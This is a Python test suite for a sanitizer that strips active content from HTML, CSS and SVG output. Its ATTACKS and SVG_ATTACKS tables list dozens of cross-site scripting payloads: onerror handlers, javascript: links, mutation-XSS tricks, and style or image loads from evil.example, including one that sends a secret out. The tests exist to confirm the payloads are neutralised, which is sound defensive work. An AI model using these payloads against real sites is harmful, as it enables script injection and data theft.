"""HTML, style and SVG of a shell: what shows stays, what acts does not."""

import io
import re
import time
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worldmodel_kernel.safe.css import safe_sheet, safe_style
from worldmodel_kernel.safe.markup import _ELEMENTS, safe_html
from worldmodel_kernel.safe.svg import BadSvg, safe_svg

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


class Page(HTMLParser):
    """What a browser would make of HTML."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.depth = 0
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data


def assert_inert(source: str) -> None:
    """Whoever reads the source: no element that acts, no handler, no address that runs or loads."""
    for name, attributes in Page(source).elements:
        assert name in _ELEMENTS | {"style"}
        assert not [a for a in attributes if a.startswith("on") or a in ("srcdoc", "action")]
        assert re.match(r"(https?://|mailto:|#|$)", attributes.get("href", ""), re.IGNORECASE)
        assert re.match(
            r"data:(image/(png|jpeg|gif|webp)|audio/|video/|$)|$", attributes.get("src", "")
        )
        assert not re.search(r"url|expression|\\|@", attributes.get("style", ""), re.IGNORECASE)
    for sheet in re.findall(r"<style>(.*?)</style>", source, re.DOTALL):
        assert not re.search(r"url|expression|\\|@|<", sheet, re.IGNORECASE)


ATTACKS = {
    "a script": "<script>boom()</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x></SCRIPT >",
    "a script that is never closed": "<p>x</p><script>boom()",
    "a script within a script": "<scr<script>x</script>ipt>boom()</script>",
    "a picture that fails": "<img src=x onerror=boom()>",
    "a slash for a space": "<img/src=x/onerror=boom()>",
    "a handler in quotes": "<b title='x' onclick=\"boom()\">x</b>",
    "a quote out of an attribute": "<b title='\"><img src=x onerror=boom()>'>x</b>",
    "entities in a quote": "<b title='&quot;&gt;&lt;script&gt;boom()&lt;/script&gt;'>x</b>",
    "a link that runs": "<a href='javascript:boom()'>x</a>",
    "a link with a tab": "<a href='java\tscript:boom()'>x</a>",
    "a link with entities": "<a href='&#106;avascript&colon;boom()'>x</a>",
    "a link that begins with a control": "<a href='\x01javascript:boom()'>x</a>",
    "a link of data": "<a href='data:text/html,<script>boom()</script>'>x</a>",
    "a frame": "<iframe srcdoc='<script>boom()</script>'></iframe>",
    "a form": "<form action=https://evil.example><input name=a><button>go</button></form>",
    "a button": "<button onclick=boom()>Run all</button>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "a base": "<base href=https://evil.example/>",
    "a style sheet from elsewhere": "<link rel=stylesheet href=https://evil.example/x.css>",
    "a style that loads": "<p style='background:url(https://evil.example/x)'>x</p>",
    "a style that loads by an escape": "<p style='background:\\75rl(https://evil.example)'>x</p>",
    "a style that imports": "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
    "a style over the page": "<p style='position:fixed;top:0;left:0;width:100vw'>x</p>",
    "a style of the page's own": "<style>.jp-Toolbar {color: red}</style><p>x</p>",
    "a style that ends early": "<style>p{color:red}</style/><img src=x onerror=boom()></style>",
    "a class of the page's own": "<div class='jp-Dialog lm-Widget'>Your session has ended</div>",
    "an id of the page's own": "<div id='jupyter-config-data'>{}</div>",
    "a picture from elsewhere": "<img src='https://evil.example/?secret'>",
    "a picture of svg": "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "svg": "<svg onload=boom()><script>boom()</script></svg>",
    "svg that changes the reader": "<svg><style><img src=x onerror=boom()></style></svg>",
    "maths that changes the reader": "<math><mtext><mglyph><style><img src=x onerror=boom()>",
    "a comment": "<!--><img src=x onerror=boom()>-->",
    "a comment with a bang": "<!-- --!><img src=x onerror=boom()> -->",
    "a declaration": "<!doctype x [<!ENTITY y '<script>boom()</script>'>]>&y;",
    "a text area": "<textarea></textarea><img src=x onerror=boom()></textarea>",
    "a template": "<template><img src=x onerror=boom()></template>",
    "an object": "<object data='data:text/html,<script>boom()</script>'></object>",
    "an embed": "<embed src='javascript:boom()'>",
    "a video from elsewhere": "<video src='https://evil.example' poster='https://evil.example'>",
    "a null within a tag": "<scr\0ipt>boom()</scr\0ipt>",
    "tags out of their place": "</div></div></body><img src=x onerror=boom()>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=boom()>'></noscript>",
    "plain text": "<plaintext><img src=x onerror=boom()>",
    "a tag that is never closed": "<img src=x onerror=boom() ",
    "latex in html": r"$\href{javascript:boom()}{x}$",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_in_html_acts(name: str) -> None:
    for source in (ATTACKS[name], "<table><tr><td>" + ATTACKS[name], "<p title='" + ATTACKS[name]):
        safe = safe_html(source).text

        assert_inert(safe)
        assert "evil.example" not in " ".join(str(e) for e in Page(safe).elements)
        assert "jp-" not in " ".join(str(e) for e in Page(safe).elements)
        assert r"\href" not in safe


PIECES = [
    *ATTACKS.values(),
    "<",
    ">",
    "'",
    '"',
    "&lt;",
    "</style>",
    "<style>",
    "<a href=",
    " x=",
    "\\",
]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=8))
def test_no_mixture_of_pieces_acts(pieces: list[str]) -> None:
    safe = safe_html("".join(pieces)).text

    assert_inert(safe)
    assert_inert(safe_html(safe).text)


@given(st.lists(st.sampled_from(["<div>", "</div>", "<p>", "</p>", "<b>", "</table>", "x"])))
def test_tags_are_balanced_so_that_nothing_leaves_its_place(pieces: list[str]) -> None:
    safe = safe_html("".join(pieces)).text
    opened: list[str] = []
    for closing, name in re.findall(r"<(/?)(\w+)", safe):
        if closing:
            assert opened.pop() == name
        else:
            opened.append(name)
    assert not opened


SLOW = [
    *("<", "<a ", '<a "', "<a '\"", "<a x=", "<?", "<!--", "<div>", "</div>", "<svg></svg", "&"),
    *("<script>", "<style>", "<p style='a:", "\\", "/*a", "a{", "a{b:", "aaaa"),
]


@pytest.mark.parametrize("piece", SLOW)
def test_half_a_million_characters_take_no_longer_than_they_must(piece: str) -> None:
    source = piece * (500_000 // len(piece))
    started = time.process_time()
    safe_html(source)
    safe_sheet(source)
    safe_style(source)

    assert time.process_time() - started < 4


def test_a_table_of_pandas_stays_as_it_was() -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"city": ["Aalen & <b>", "Bonn"], "n": [1, 2]})
    safe = safe_html(frame._repr_html_())

    assert not safe.left_out
    assert 'class="dataframe"' in safe.text
    assert "Aalen &amp; &lt;b&gt;" in safe.text
    assert re.findall(r"<td>(.*?)</td>", safe.text) == ["Aalen &amp; &lt;b&gt;", "1", "Bonn", "2"]


def test_the_style_of_a_table_stays_inside_its_output() -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"n": [1.0, 2.0]})
    source = frame.style.map(lambda v: "color: red; font-weight: bold").bar().to_html()
    safe = safe_html(source).text

    scope = re.search(r'<div class="(wm-\w+)">', safe)
    assert scope is not None
    selectors = re.findall(r"^([^{}\n]+) \{", safe, re.MULTILINE)
    assert selectors
    for selector in selectors:
        assert all(part.strip().startswith(f".{scope[1]} #T_") for part in selector.split(","))
    assert "color: red; font-weight: bold" in safe
    assert "linear-gradient(" in safe


def test_pictures_and_sounds_that_html_brings_along_stay() -> None:
    source = (
        f'<img src="data:image/png;base64,{PIXEL}" alt="a dot">'
        '<audio controls><source src="data:audio/wav;base64,UklGRg==" type="audio/wav"></audio>'
        '<a href="https://example.org/?a=1&amp;b=2">there</a>'
    )
    safe = safe_html(source)

    assert not safe.left_out
    assert PIXEL in safe.text
    assert "data:audio/wav;base64,UklGRg==" in safe.text
    assert 'href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer"' in safe.text


def test_what_was_left_out_is_named() -> None:
    safe = safe_html("<p onclick=x>text</p><script>x</script><iframe></iframe>")

    assert set(safe.left_out) == {"an event handler", "script", "iframe"}
    assert safe_html("<div></div><script>x</script>").text == ""


@pytest.mark.parametrize(
    "style, kept",
    {
        "color: red; text-align: right": "color: red; text-align: right",
        "background-color: rgba(1, 2, 3, .5)": "background-color: rgba(1, 2, 3, .5)",
        "background: url(x)": "",
        "background: image-set('x' 1x)": "",
        "width: expression(alert(1))": "",
        "behavior: x; -moz-binding: y": "",
        "position: fixed": "",
        "position: sticky; top: 0": "position: sticky; top: 0",
        "margin: -900px": "",
        "margin-left: calc(0px - 900px)": "",
        "color: red; /* x */ /* ; */ opacity: 1": "color: red; opacity: 1",
        "color: 'a; b": "",
        "--x: 1": "",
        "color: \\72 ed": "",
    }.items(),
)
def test_of_style_only_what_styles_is_kept(style: str, kept: str) -> None:
    assert safe_style(style) == kept


@pytest.mark.parametrize(
    "selector", ["~ div", "+ div", "> b", "p, ~ div", "\u00a0~ div", "/**/+ div"]
)
def test_a_selector_cannot_begin_beside_its_scope(selector: str) -> None:
    sheet = f"{selector} {{display: none}}"

    assert safe_sheet(sheet, scope="s") == ""
    assert "display" not in safe_html(f"<style>{sheet}</style><b>x</b>").text
    assert "display" not in safe_svg(drawing(f"<style>{sheet.replace('>', '&gt;')}</style>"))


@pytest.mark.parametrize(
    "selector", ["p { color: red; ~ div", "& ~ div", ":is(~ div, p)", "@layer x"]
)
def test_rules_within_rules_and_lists_in_brackets_are_refused(selector: str) -> None:
    assert "none" not in safe_sheet(f"{selector} {{display: none}}}}", scope="s")


def test_a_selector_cannot_leave_its_scope() -> None:
    sheet = "body, p {color: red} *{color:red} @media x {p {color: red}} a[href^='x'] {color: red}"

    for line in safe_sheet(sheet, scope="s").splitlines():
        assert all(part.strip().startswith(".s ") for part in line.split("{")[0].split(","))


# --- svg ----------------------------------------------------------------------------------------

SVG_ATTACKS = {
    "a script": "<script>boom()</script>",
    "a handler": "<path onclick='boom()' d='M0 0'/>",
    "a handler of an animation": "<set attributeName='href' to='javascript:boom()'/>",
    "an animated address": "<a><animate attributeName='href' values='javascript:boom()'/></a>",
    "a link": "<a xlink:href='javascript:boom()'><text>x</text></a>",
    "html inside": "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
    "html as a sibling": "<p xmlns='http://www.w3.org/1999/xhtml' onclick='boom()'>x</p>",
    "a picture from elsewhere": "<image xlink:href='https://evil.example/x'/>",
    "a picture of svg": "<image href='data:image/svg+xml;base64,PHN2Zz4='/>",
    "a part from elsewhere": "<use xlink:href='https://evil.example/x#y'/>",
    "a fill from elsewhere": "<path fill='url(https://evil.example/x)'/>",
    "a fill by an escape": "<path style='fill: u\\72l(https://evil.example/x)'/>",
    "a style that imports": "<style>@import 'https://evil.example/x';</style>",
    "a style over the page": "<style>* {position: fixed; top: 0}</style>",
    "markup in a title": "<title><img xmlns='http://www.w3.org/1999/xhtml' src='x'/></title>",
    "cdata": "<style><![CDATA[</style><img src=x onerror=boom()>]]></style>",
    "words that are tags": "<text>&lt;img src=x onerror=boom()&gt;</text>",
    "a processing instruction": "<?xml-stylesheet href='https://evil.example/x'?>",
}


def drawing(inside: str) -> str:
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<svg {spaces} onload='boom()'>{inside}</svg>"


@pytest.mark.parametrize("name", SVG_ATTACKS)
def test_nothing_in_svg_acts(name: str) -> None:
    safe = safe_svg(drawing(SVG_ATTACKS[name]))

    as_html, as_xml = Page(safe), list(ET.fromstring(safe).iter())
    assert not [
        e for e, _ in as_html.elements if e in ("script", "a", "img", "p", "set", "animate")
    ]
    for _, attributes in as_html.elements:
        assert not [a for a in attributes if a.startswith("on")]
    assert all(element.tag.startswith("{http://www.w3.org/2000/svg}") for element in as_xml)
    for danger in ("evil.example", "javascript", "position", "foreignObject", "<img"):
        assert danger not in safe


@pytest.mark.parametrize(
    "source",
    {
        "entities": "<!DOCTYPE svg [<!ENTITY a 'aaaa'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
        "html": "<html><script>boom()</script></html>",
        "broken": "<svg",
        "nothing": "",
        "another space": "<svg xmlns='http://www.w3.org/1999/xhtml'/>",
    }.values(),
)
def test_what_is_no_plain_svg_is_refused(source: str) -> None:
    with pytest.raises(BadSvg):
        safe_svg(source)


@pytest.mark.slow
def test_a_figure_of_matplotlib_is_drawn_as_before() -> None:
    pyplot = pytest.importorskip("matplotlib.figure")
    figure = pyplot.Figure()
    axes = figure.subplots()
    axes.plot([1, 3, 2])
    axes.bar([0, 1], [1, 2], hatch="//")
    axes.imshow([[0, 1], [1, 0]])
    axes.set_title("a < b & c")
    written = io.StringIO()
    figure.savefig(written, format="svg")
    source, safe = written.getvalue(), safe_svg(written.getvalue())

    for element in ("path", "use", "image", "clipPath", "pattern"):
        assert safe.count(f"<{element} ") == source.count(f"<{element} ") > 0
    assert "data:image/png;base64," in safe
    assert re.search(r"wm-\w+ \* \{stroke-linejoin: round; stroke-linecap: butt\}", safe)
    assert safe.count('clip-path="url(#') == source.count('clip-path="url(#')
